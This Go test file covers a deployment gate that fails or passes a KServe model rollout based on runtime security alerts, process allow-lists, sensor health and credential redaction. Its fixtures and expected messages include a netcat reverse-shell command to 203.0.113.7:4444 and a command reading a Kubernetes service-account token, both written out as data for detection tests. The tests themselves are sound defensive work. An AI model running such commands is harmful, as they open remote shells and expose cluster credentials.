package gate

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/modelguard/modelguard/pkg/acs"
)

// The fixtures' workload: a KServe predictor whose container ran netcat
// at 12:03:41, caught by a HIGH, KILL_POD policy; a LOW package-manager
// alert was resolved at 12:01.
const (
	uid     = "5f0c7a2e-3b1d-4c8e-9a6f-2d4b8e1c7f90"
	cluster = "1e2d3c4b-5a69-4788-9a0b-c1d2e3f4a5b6"
)

var (
	rolloutStart = time.Date(2026, 11, 25, 11, 58, 0, 0, time.UTC)
	windowEnd    = rolloutStart.Add(5 * time.Minute)
)

type fixtures struct {
	netcat, pkgResolved acs.ListAlert
	netcatFull          *acs.Alert
	processes           []acs.ContainerProcesses
}

func loadFixtures(t *testing.T) fixtures {
	var list struct{ Alerts []acs.ListAlert }
	var full acs.Alert
	var procs struct{ Groups []acs.ContainerProcesses }
	decodeFixture(t, "alerts-runtime-deployment.json", &list)
	decodeFixture(t, "alert-runtime-process-violation.json", &full)
	decodeFixture(t, "processes-grouped-container.json", &procs)
	return fixtures{netcat: list.Alerts[0], pkgResolved: list.Alerts[1], netcatFull: &full, processes: procs.Groups}
}

// healthy is an observation with everything a pass needs and nothing wrong.
func healthy() Observation {
	contact := windowEnd.Add(time.Minute)
	return Observation{
		Start: rolloutStart.Add(-DefaultSkew), End: windowEnd, Now: windowEnd.Add(90 * time.Second),
		Permissions: map[string]acs.Access{"Alert": acs.ReadAccess, "Deployment": acs.ReadAccess, "DeploymentExtension": acs.ReadAccess, "Cluster": acs.ReadWriteAccess},
		Targets: []TargetObservation{{Target: Target{UID: uid, Name: "granite-predictor", Namespace: "fraud-prod"},
			Seen: true, ClusterID: cluster, ProcessCount: 3}},
		Health: map[string]ClusterHealth{cluster: {Sensor: acs.HealthHealthy, Collector: acs.HealthHealthy, LastContact: &contact}},
		Final:  true,
	}
}

func with(o Observation, f func(*Observation)) Observation { f(&o); return o }

func withAlerts(as ...ObservedAlert) func(*Observation) {
	return func(o *Observation) { o.Targets[0].Alerts = as }
}

func TestJudgeRuntime(t *testing.T) {
	fx := loadFixtures(t)
	netcat := ObservedAlert{ListAlert: fx.netcat, Full: fx.netcatFull}
	noKill := fx.netcat
	noKill.EnforcementAction, noKill.EnforcementCount = acs.EnforcementUnset, 0
	medium := noKill
	medium.Policy = &acs.ListAlertPolicy{Name: "Remote File Copy Binary Execution", Severity: acs.PolicySeverityMedium, Categories: []string{"Anomalous Activity"}}
	resolvedBefore := fx.pkgResolved
	before := rolloutStart.Add(-2 * time.Hour)
	resolvedBefore.Time = &before
	canary := noKill
	canary.Deployment = &acs.ListAlertDeployment{ID: "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d", Name: "granite-predictor-canary"}
	deploy := noKill
	deploy.LifecycleStage = acs.StageDeploy
	old := noKill
	old.Time = &before
	allow := func(entries ...string) *ProcessAllowList {
		a, err := ParseProcessAllow(entries)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	serving := allow("kserve-container:/usr/bin/modelguard", "kserve-container:/bin/sh", "*:/usr/bin/nc")

	for _, tc := range []struct {
		name    string
		obs     Observation
		policy  RuntimePolicy
		verdict RuntimeVerdict
		reason  string
		message string
	}{
		{"a clean rollout passes", healthy(), RuntimePolicy{}, RuntimePass, "", "3 process(es) seen"},
		{"nothing observed is never a pass", with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 }), RuntimePolicy{},
			RuntimeInconclusive, ReasonNoProcessesSeen, "no process of fraud-prod/granite-predictor reached Central"},
		{"a deployment Central never reported", with(healthy(), func(o *Observation) { o.Targets[0].Seen, o.Targets[0].ClusterID = false, "" }), RuntimePolicy{},
			RuntimeInconclusive, ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor"},
		{"a token that cannot read alerts: its empty list proves nothing", with(healthy(), func(o *Observation) { delete(o.Permissions, "Alert") }), RuntimePolicy{},
			RuntimeInconclusive, ReasonMissingPermissions, "cannot read Alert"},
		{"permissions never read", with(healthy(), func(o *Observation) { o.Permissions = nil }), RuntimePolicy{},
			RuntimeInconclusive, ReasonMissingPermissions, "could not be read"},
		{"collector degraded", with(healthy(), func(o *Observation) {
			o.Health = map[string]ClusterHealth{cluster: {Sensor: acs.HealthHealthy, Collector: acs.HealthDegraded, LastContact: o.Health[cluster].LastContact}}
		}), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "Collector DEGRADED"},
		{"health never read", with(healthy(), func(o *Observation) { o.Health = nil }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "unknown"},
		{"sensor silent for long", with(healthy(), func(o *Observation) { o.Now = o.Now.Add(time.Hour) }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "last contact"},
		{"no cluster named", with(healthy(), func(o *Observation) { o.Targets[0].ClusterID = "" }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "named no cluster"},
		{"Central down through the end", with(healthy(), func(o *Observation) { o.Final, o.Failing = false, "HTTP 503" }), RuntimePolicy{},
			RuntimeInconclusive, ReasonCentralUnavailable, "HTTP 503"},
		{"no workload at all", with(healthy(), func(o *Observation) { o.Targets = nil }), RuntimePolicy{}, RuntimeInconclusive, ReasonDeploymentNotSeen, "no workload"},

		{"a HIGH runtime alert fails, naming policy and process", with(healthy(), withAlerts(netcat)), RuntimePolicy{},
			RuntimeFail, ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor: Central enforced KILL_POD_ENFORCEMENT; process /usr/bin/nc -e /bin/sh 203.0.113.7 4444 in container kserve-container of pod granite-predictor-7d9c8b6f54-x2kqp`},
		{"a fail wins over inconclusive", with(healthy(), func(o *Observation) { o.Final = false; o.Targets[0].Alerts = []ObservedAlert{netcat} }), RuntimePolicy{},
			RuntimeFail, ReasonRuntimeViolation, "Netcat"},
		{"HIGH below CRITICAL, no enforcement: seen, passes", with(healthy(), withAlerts(ObservedAlert{ListAlert: noKill})), RuntimePolicy{Severity: acs.PolicySeverityCritical},
			RuntimePass, "", "1 alert(s) below CRITICAL"},
		{"the same alert at HIGH", with(healthy(), withAlerts(ObservedAlert{ListAlert: noKill})), RuntimePolicy{},
			RuntimeFail, ReasonRuntimeViolation, "severity HIGH at or above HIGH"},
		{"a MEDIUM alert passes at HIGH", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{}, RuntimePass, "", "below HIGH"},
		{"and fails at MEDIUM", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{Severity: acs.PolicySeverityMedium}, RuntimeFail, ReasonRuntimeViolation, "MEDIUM at or above MEDIUM"},
		{"or by its policy on the deny list", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{DenyPolicies: []string{"remote file copy binary execution"}},
			RuntimeFail, ReasonRuntimeViolation, "deny list"},
		{"or its category", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{DenyCategories: []string{"Anomalous Activity"}},
			RuntimeFail, ReasonRuntimeViolation, "category Anomalous Activity"},
		{"a LOW alert resolved during the window still fails", with(healthy(), withAlerts(ObservedAlert{ListAlert: fx.pkgResolved})), RuntimePolicy{},
			RuntimeFail, ReasonRuntimeViolation, "resolved during the watch"},
		{"one resolved before the window does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: resolvedBefore})), RuntimePolicy{}, RuntimePass, "", "no runtime violation"},
		{"an old alert on the same UID does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: old})), RuntimePolicy{}, RuntimePass, "", "no runtime violation"},
		{"another deployment's alert (same name prefix) does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: canary})), RuntimePolicy{},
			RuntimePass, "", "no runtime violation"},
		{"a DEPLOY alert counts only when asked", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{}, RuntimePass, "", ""},
		{"and then fails", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{IncludeDeploy: true}, RuntimeFail, ReasonRuntimeViolation, "DEPLOY"},

		{"a process outside the allow-list fails", with(healthy(), func(o *Observation) { o.Targets[0].Processes = fx.processes }),
			RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, RuntimeFail, ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list"},
		{"all on the allow-list passes", with(healthy(), func(o *Observation) { o.Targets[0].Processes = fx.processes; o.Targets[0].ProcessCount = 0 }),
			RuntimePolicy{Allow: serving}, RuntimePass, "", "3 process(es) seen"},
		{"processes from before the window do not count", with(healthy(), func(o *Observation) {
			o.Start = time.Date(2026, 11, 25, 12, 5, 0, 0, time.UTC)
			o.Targets[0].Processes = fx.processes
		}), RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, RuntimePass, "", ""},

		{"an accepted inconclusive reason", with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 }),
			RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}}, RuntimeInconclusive, ReasonNoProcessesSeen, "accepted"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := JudgeRuntime(tc.obs, tc.policy)
			if r.Decision != tc.verdict || r.Reason != tc.reason || !strings.Contains(r.Message, tc.message) {
				t.Fatalf("verdict=%s reason=%q message=%q\nwant %s %q containing %q", r.Decision, r.Reason, r.Message, tc.verdict, tc.reason, tc.message)
			}
			if r.Decision == RuntimePass && (r.ProcessesSeen == 0 || len(r.Problems) > 0) {
				t.Fatalf("a pass with nothing observed: %+v", r)
			}
		})
	}
}

func TestJudgeRuntimeAcceptsOnlyWhatItWasTold(t *testing.T) {
	o := with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0; o.Final = false })
	r := JudgeRuntime(o, RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}})
	if r.Decision != RuntimeInconclusive || r.Accepted || len(r.Problems) != 2 {
		t.Fatalf("two problems, one accepted: %+v", r)
	}
}

func TestRuntimeResults(t *testing.T) {
	fx := loadFixtures(t)
	r := JudgeRuntime(with(healthy(), withAlerts(ObservedAlert{ListAlert: fx.netcat, Full: fx.netcatFull})), RuntimePolicy{})
	res := r.Results()
	if err := res.Check(); err != nil {
		t.Fatal(err)
	}
	m := res.Map()
	if m["verdict"] != "fail" || m["processes-seen"] != "3" ||
		!strings.Contains(m["alerts"], `FAIL policy="Netcat Execution Detected" severity=HIGH stage=RUNTIME state=ACTIVE deployment=granite-predictor enforcement=KILL_POD_ENFORCEMENT`) ||
		!strings.Contains(m["alerts"], `process=kserve-container:/usr/bin/nc args="-e /bin/sh 203.0.113.7 4444" pod=granite-predictor-7d9c8b6f54-x2kqp`) {
		t.Errorf("results: %v", m)
	}
	if len(res) != len(RuntimeResultNames) {
		t.Errorf("%d results, want %v", len(res), RuntimeResultNames)
	}
	for i, n := range RuntimeResultNames {
		if res[i].Name != n {
			t.Errorf("result %d is %q, want %q", i, res[i].Name, n)
		}
	}
}

func TestWatchOptions(t *testing.T) {
	p, tm, onFail, err := WatchOptions{Window: "2m", Grace: "0s", Poll: "1s", Severity: "medium", OnFail: "scale-to-zero",
		AllowProcesses: []string{"server:/usr/bin/modelguard", "", "*:/opt/app-root/bin/*"}, AcceptInconclusive: []string{"noprocessesseen"}}.Parse()
	if err != nil || tm.Window != 2*time.Minute || tm.Grace != 0 || tm.Poll != time.Second || p.Severity != acs.PolicySeverityMedium ||
		onFail != OnFailScaleToZero || p.Allow.Len() != 2 || !p.Allow.Allows("server", "/usr/bin/modelguard") ||
		!p.Allow.Allows("sidecar", "/opt/app-root/bin/python3") || p.Allow.Allows("server", "/bin/sh") || p.AcceptInconclusive[0] != ReasonNoProcessesSeen {
		t.Fatalf("parsed %+v %+v %s %v", p, tm, onFail, err)
	}
	p, tm, onFail, err = WatchOptions{AllowProcesses: []string{""}}.Parse()
	if err != nil || p.Allow != nil || tm.Window != DefaultWindow || tm.Grace != DefaultGrace || onFail != OnFailNone || p.Severity != acs.PolicySeverityHigh {
		t.Fatalf("defaults: %+v %+v %s %v", p, tm, onFail, err)
	}
	_, _, _, err = WatchOptions{Window: "soon", Grace: "-1s", Poll: "10m", Severity: "SEVERE", OnFail: "delete",
		AllowProcesses: []string{"server", "server:bin/sh", "server:/usr/../bin/sh", "server:/a*b"}, AcceptInconclusive: []string{"Whatever"}}.Parse()
	if err == nil || strings.Contains(err.Error(), "longer than the window") {
		t.Errorf("a poll that did not parse is compared with the window: %v", err)
	}
	for _, want := range []string{`window: "soon" is not a duration`, "grace: -1s is outside", `severity: "SEVERE"`, `on-fail: "delete"`,
		`allow-processes: "server": want container:/absolute/path`, "the path must be absolute", "not clean", "only a trailing *", `accept-inconclusive: "Whatever"`} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("bad options: %v; want %q", err, want)
		}
	}
}

// Each verdict maps to one outcome, for both doors: inconclusive is an
// error (never a pass) unless accepted.
func TestRuntimeOutcomes(t *testing.T) {
	fx := loadFixtures(t)
	quiet := with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 })
	for _, tc := range []struct {
		name    string
		r       RuntimeReport
		outcome Outcome
		reason  string
	}{
		{"pass", JudgeRuntime(healthy(), RuntimePolicy{}), Pass, ""},
		{"fail", JudgeRuntime(with(healthy(), withAlerts(ObservedAlert{ListAlert: fx.netcat})), RuntimePolicy{}), Fail, ReasonRuntimeViolation},
		{"inconclusive", JudgeRuntime(quiet, RuntimePolicy{}), Error, ReasonNoProcessesSeen},
		{"accepted", JudgeRuntime(quiet, RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}}), Pass, ReasonNoProcessesSeen},
		{"could not start", WatchFailed(errors.New("deployment fraud-prod/x not found")), Error, ReasonWorkload},
	} {
		v := tc.r.Verdict
		m := tc.r.Results().Map()
		if v.Outcome != tc.outcome || v.Reason != tc.reason || m["gate"] != string(tc.outcome) || m["reason"] != tc.reason || m["verdict"] != string(tc.r.Decision) {
			t.Errorf("%s: %+v, results %v", tc.name, v, m)
		}
	}
	if m := WatchFailed(errors.New("x")).Results().Map(); m["processes-seen"] != "" || m["verdict"] != "error" {
		t.Errorf("a watch that never ran counts nothing: %v", m)
	}
}

// Credentials on a watched process's command line never reach results.
func TestRedactArgs(t *testing.T) {
	for in, want := range map[string]string{
		"serve --models /mnt/models --port 8080":                  "serve --models /mnt/models --port 8080",
		"--api-key=sk-live-123 --port 8080":                       "--api-key=[REDACTED] --port 8080",
		"--token abc123 --verbose":                                "--token [REDACTED] --verbose",
		"-H 'Authorization: Bearer eyJhbGciOi' http://x":          "-H 'Authorization: Bearer [REDACTED] http://x",
		"PASSWORD=hunter2 ./run":                                  "PASSWORD=[REDACTED] ./run",
		"--password":                                              "--password",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		"auth:user:pass":                                          "auth:[REDACTED]",
		"-e /bin/sh 203.0.113.7 4444":                             "-e /bin/sh 203.0.113.7 4444",
	} {
		if got := RedactArgs(in); got != want {
			t.Errorf("RedactArgs(%q) = %q, want %q", in, got, want)
		}
	}
}
